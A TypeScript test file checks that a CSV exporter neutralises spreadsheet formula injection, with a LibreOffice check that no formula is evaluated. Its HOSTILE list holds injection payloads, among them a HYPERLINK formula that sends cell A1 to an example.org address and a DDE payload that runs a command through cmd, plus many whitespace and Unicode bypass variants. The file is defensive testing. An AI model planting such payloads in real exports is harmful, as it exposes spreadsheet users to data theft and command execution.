import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { fromCsvText } from '../../src/words/escape-csv.ts';
import { lacks, places, run, SCORE, text, type Place } from './lotse.ts';

const place = places('formulas');

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.org?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x\n=1+1',
  'x\r=1+1',
  'x\r\n=1+1',
  '"\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '=1+1"',
  ',=1+1',
  ';=1+1',
  'x,=1+1',
  'x";=1+1',
  '%0A=1+1',
  '="007"',
];

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

/** Scores the demo's first learner again and again, with a hostile class and, where it is a legal one, a hostile id. */
function scored(): Place {
  const at = place();
  const [header = '', row = ''] = readFileSync(join(at.folder, 'in.csv'), 'utf8').split('\n');
  const cells = row.split(';').slice(2);
  const rows = HOSTILE.map((evil, n) =>
    [quoted(`${evil}${' '.repeat(n)}`), quoted(evil), ...cells].join(';'),
  );
  writeFileSync(join(at.folder, 'in.csv'), [header, ...rows, ''].join('\n'));
  const { code } = run(at, [
    ...SCORE,
    'in.csv',
    '--keep',
    'Klasse',
    '-o',
    'out.csv',
    '--on-duplicate',
    'first',
  ]);
  expect([0, 4]).toContain(code);
  return at;
}

/** A table as LibreOffice shows it, formulas worked out where it finds any. */
function opened({ folder, tmp }: Place, name: string): string {
  const done = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=file://${tmp}/profile`,
      '--headless',
      // Commas, double quotes, UTF-8, from line 1, no column formats, any language, unquoted numbers as such, formulas.
      ...['--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true'],
      ...['--convert-to', 'fods', '--outdir', tmp, join(folder, name)],
    ],
    { encoding: 'utf8', timeout: 100_000 },
  );
  expect(done.status, done.stderr).toBe(0);
  return readFileSync(join(tmp, name.replace(/csv$/, 'fods')), 'utf8');
}

test('what was written is read as it was', () => {
  const at = scored();
  const [header, ...rows] = parse(text(at, 'out.csv'), { relax_column_count: false });
  const kept = header?.indexOf('Klasse') ?? -1;
  const wanted = new Set(HOSTILE.map((cell) => cell.trim()));
  for (const row of rows) expect(wanted).toContain(fromCsvText(row[kept] ?? ''));
  expect(rows.length).toBeGreaterThan(HOSTILE.length / 2);
});

test('no cell, and no line, begins as a formula does', () => {
  const bytes = text(scored(), 'out.csv');
  for (const row of parse(bytes)) for (const cell of row) expect(cell).not.toMatch(/^[=+@＝＋\t\r\n]/);
  expect(bytes.replace(/"(?:[^"]|"")*"/g, '')).not.toMatch(/(?:^|[\r\n,])[=+@＝＋]/);
});

describe.skipIf(lacks('soffice'))('in LibreOffice', () => {
  test('a formula is seen where there is one, and there is none in what we write', () => {
    const at = scored();
    writeFileSync(join(at.folder, 'control.csv'), 'id,x\r\n1,=1+1\r\n');
    expect(opened(at, 'control.csv')).toContain('table:formula=');
    const shown = opened(at, 'out.csv');
    expect(shown).toContain('HYPERLINK');
    expect(shown).not.toContain('table:formula=');
    const alerts = opened(at, 'out.csv.alerts.csv') + opened(at, 'out.csv.rejects.csv');
    expect(alerts).not.toContain('table:formula=');
  }, 240_000);
});
